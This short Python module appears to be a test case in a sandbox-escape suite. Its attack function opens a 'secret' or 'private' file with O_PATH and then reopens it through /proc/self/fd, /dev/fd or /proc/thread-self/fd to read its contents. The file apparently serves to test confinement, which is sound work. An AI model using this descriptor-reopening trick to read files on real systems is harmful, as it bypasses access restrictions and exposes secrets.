"""Success: a file outside, opened for its path only, and then opened again."""

import os

from kit import tries


def reopen(path, door):
    fd = os.open(path, os.O_PATH)
    return os.read(os.open(door.format(fd), os.O_RDONLY), 4096)


def attack(a):
    return tries(
        lambda: reopen(a["secret_file"], "/proc/self/fd/{}"),
        lambda: reopen(a["secret_file"], "/dev/fd/{}"),
        lambda: reopen(a["private_file"], "/proc/thread-self/fd/{}"),
    )
